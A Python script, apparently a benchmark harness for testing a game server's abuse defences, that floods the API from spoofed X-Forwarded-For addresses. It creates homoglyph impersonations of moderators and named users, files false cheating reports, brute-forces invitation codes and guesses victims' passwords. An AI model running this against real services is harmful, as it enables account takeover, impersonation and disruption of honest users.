"""Do to a server what nobody wants, from many addresses at the same time, as fast as it answers.

Each address is a thread with a connection of its own; a proxy that the server believes says where it comes from.
"""

from __future__ import annotations

import http.client
import json
import random
import time
from collections import Counter, defaultdict
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any, TypeAlias

PASSWORD = "correct horse battery"  # noqa: S105 - of accounts that last as long as a benchmark
FLOOD = ("Rolf", "Rоlf", "ROLF", "Rölf", "Ｒolf", "R o l f")
"""How the flood writes its name: in Latin letters, with a Cyrillic one, in capitals, and so on."""
OFFICES = ("Moderator", "Mоderator", "Adm1n", "Eddy1ine", "Operator Ann")
"""Names of nobody but who runs the server."""
ANSWERED = (200, 201, 204)

Tally: TypeAlias = dict[str, dict[str, int]]
"""By what was tried: how often it was answered in which way."""


@dataclass(frozen=True)
class Wanted:
    """Say how much of everything is tried, in all, and against whom."""

    host: str
    port: int
    addresses: int
    accounts: int
    tables: int
    reports: int
    guesses: int
    passwords: int
    victims: tuple[str, ...]
    """Names of accounts of honest people."""
    seats: tuple[tuple[str, int], ...]
    """Tables and seats of honest people."""


@dataclass
class Client:
    """Ask a server from an address."""

    host: str
    port: int
    address: str
    waits: list[float] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._connection = http.client.HTTPConnection(self.host, self.port, timeout=600)

    def ask(self, method: str, path: str, body: object = None, session: str | None = None) -> tuple[int, Any]:
        """Make a request; return the status and the answer."""
        headers = {"X-Forwarded-For": self.address, "Content-Type": "application/json"}
        if session is not None:
            headers["Authorization"] = f"Bearer {session}"
        began = time.perf_counter()
        self._connection.request(method, path, None if body is None else json.dumps(body), headers)
        response = self._connection.getresponse()
        answer = response.read()
        self.waits.append(time.perf_counter() - began)
        return response.status, json.loads(answer) if answer else None

    def close(self) -> None:
        """End the connection."""
        self._connection.close()


def attack(wanted: Wanted) -> dict[str, Any]:
    """Try everything; return how it was answered, and the sessions that were made."""
    began = time.perf_counter()
    with ThreadPoolExecutor(wanted.addresses) as threads:
        found = list(threads.map(lambda number: _from(wanted, number), range(wanted.addresses)))
    tally: dict[str, Counter[str]] = defaultdict(Counter)
    for counted, _ in found:
        for what, ways in counted.items():
            tally[what].update(ways)
    return {
        "seconds": time.perf_counter() - began,
        "tried": {what: dict(ways.most_common()) for what, ways in sorted(tally.items())},
        "sessions": [session for _, made in found for session in made],
    }


def _from(wanted: Wanted, number: int) -> tuple[dict[str, Counter[str]], list[str]]:
    """Try one address's share, in any order."""
    chance = random.Random(number)  # noqa: S311 - which is next, not a secret
    client = Client(wanted.host, wanted.port, f"192.0.2.{number + 1}")
    tally: dict[str, Counter[str]] = defaultdict(Counter)
    sessions: list[str] = []
    shares = (wanted.accounts, wanted.tables, wanted.reports, wanted.guesses, wanted.passwords)
    acts = [act for act, share in zip(ACTS, shares, strict=True) for _ in range(_part(share, number, wanted.addresses))]
    chance.shuffle(acts)
    for step, act in enumerate(acts):
        what, path, body, session = act(wanted, f"{number}-{step}", chance, sessions)
        status, answer = client.ask("POST", path, body, session)
        tally[what]["done" if status in ANSWERED else answer["code"]] += 1
        if path == "/api/people" and status in ANSWERED:
            sessions.append(answer["session"])
    client.close()
    return tally, sessions


def _part(share: int, number: int, addresses: int) -> int:
    """Return how many of a share are one address's."""
    return share // addresses + (number < share % addresses)


Act: TypeAlias = tuple[str, str, dict[str, Any], str | None]


def _account(wanted: Wanted, step: str, chance: random.Random, _: list[str]) -> Act:
    name, what = f"{chance.choice(FLOOD[:2])} {step}", "accounts"
    if chance.random() < 0.2:
        name, what = chance.choice((*OFFICES, *map(lookalike, wanted.victims))), "accounts that look like others"
    return what, "/api/people", {"name": name, "password": PASSWORD}, None


def _table(_: Wanted, __: str, chance: random.Random, ___: list[str]) -> Act:
    wish = {"game": "niagara", "name": chance.choice(FLOOD), "seats": 3, "access": "open"}
    return "tables", "/api/tables", wish, None


def _report(wanted: Wanted, _: str, chance: random.Random, sessions: list[str]) -> Act:
    table, seat = chance.choice(wanted.seats)
    body = {"table": table, "seat": seat, "reason": "cheating", "note": "They always win."}
    return "reports", "/api/reports", body, chance.choice([None, *sessions])


def _guess(_: Wanted, __: str, chance: random.Random, ___: list[str]) -> Act:
    letters = "".join(chance.choices("abcdefghjkmnpqrstuvwxyz23456789", k=16))
    code = "-".join(letters[start : start + 4] for start in range(0, 16, 4))
    return "invitations guessed", "/api/invitations", {"code": code}, None


def _password(wanted: Wanted, step: str, chance: random.Random, _: list[str]) -> Act:
    spell = chance.choice((str, str.upper, str.lower, lookalike))
    body = {"name": spell(chance.choice(wanted.victims)), "password": f"wrong horse {step}"}
    return "passwords", "/api/sessions", body, None


ACTS = (_account, _table, _report, _guess, _password)


def lookalike(name: str) -> str:
    """Write a name with other letters that look the same."""
    return name.translate(str.maketrans("aeopc", "аеорс"))
